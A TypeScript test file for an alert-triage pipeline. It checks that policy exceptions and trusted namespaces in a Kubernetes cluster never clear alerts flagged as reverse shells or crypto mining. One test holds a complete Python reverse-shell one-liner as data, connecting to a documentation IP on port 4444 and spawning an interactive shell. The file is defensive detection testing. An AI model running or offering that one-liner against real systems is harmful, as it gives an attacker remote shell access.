/**
 * Red-team traps for the policy file's trust: narrow exceptions and trusted namespaces/images "never cover an attack
 * indicator". An indicator the sensor's title alone carries (a non-network alert titled "Reverse shell") is medium, and
 * a policy exception is strong: an exception for the notebooks' python3 outweighed it; a trusted namespace (medium)
 * tied with it and lost only by the tie. An attacker who reads the policy picks the trusted process or namespace.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { parsePolicy } from '../../../src/triage/policy.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'node-b';
const nb = pod('notebook-7f-abcde', {
  namespace: 'data',
  node: N,
  ip: '10.1.0.21',
  owner: { kind: 'ReplicaSet', name: 'notebook-7f' },
  containers: [{ name: 'notebook', image: 'registry.example.com/data/notebook:4.1', command: ['jupyter', 'lab'] }],
});
const index = indexOf([node(N, '10.0.1.11'), owner('ReplicaSet', 'notebook-7f', 'data', { kind: 'Deployment', name: 'notebook' }), owner('Deployment', 'notebook', 'data'), nb]);
const at = { id: containerIdOf(nb), name: 'notebook', pod: nb.metadata.name, namespace: 'data' };
const exception = parsePolicy(
  `exceptions:
  - reason: data scientists run ad-hoc python in their notebooks
    match: { namespace: data, process: python3 }
`,
  'policy.yaml',
  '2026-01-01',
);
const trustedNs = parsePolicy('trusted:\n  namespaces: [data]\n', 'policy.yaml', '2026-01-01');
const py = (title: string, commandLine = 'python3 /home/jovyan/work/job.py') =>
  alert({ host: N, container: at, title, process: { name: 'python3', path: '/usr/bin/python3', commandLine }, ancestors: [{ name: 'jupyter-lab', commandLine: 'jupyter lab' }] });

describe('redteam3 policy: exceptions and trust never cover an attack indicator', () => {
  it('trap: an exception for python3 in namespace data does not cover an alert titled as a reverse shell', () => {
    expect(triageAlert(py('Reverse shell detected'), { index, policy: exception }).verdict.label).toBe('genuine');
  });
  it('trap: an exception for python3 does not cover a title naming cryptocurrency mining', () => {
    expect(triageAlert(py('Cryptocurrency mining detected'), { index, policy: exception }).verdict.label).toBe('genuine');
  });
  it('trap: a trusted namespace does not cover a reverse shell title', () => {
    expect(triageAlert(py('Reverse shell detected'), { index, policy: trustedNs }).verdict.label).toBe('genuine');
  });
  it('still applies: the exception covers python3 with no indicator', () => {
    expect(triageAlert(py('Unexpected interpreter launched'), { index, policy: exception }).verdict.label).toBe('likely-false-positive');
  });
});

describe('redteam3 policy: an exception that names the title has judged that detection', () => {
  it('still applies: an exception naming the sensor title covers that title-only hit', () => {
    const named = parsePolicy(
      `exceptions:
  - reason: the notebooks' reverse-shell training lab
    match: { namespace: data, process: python3, title: Reverse shell* }
`,
      'policy.yaml',
      '2026-01-01',
    );
    expect(triageAlert(py('Reverse shell detected'), { index, policy: named }).verdict.label).toBe('likely-false-positive');
  });
  it('trap: … but not a hit in the process facts (python3 -c with a socket to a public address)', () => {
    const named = parsePolicy(
      `exceptions:
  - reason: the notebooks' reverse-shell training lab
    match: { namespace: data, process: python3, title: Reverse shell* }
`,
      'policy.yaml',
      '2026-01-01',
    );
    const cmd = `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`;
    expect(triageAlert(py('Reverse shell detected', cmd), { index, policy: named }).verdict.label).toBe('genuine');
  });
});
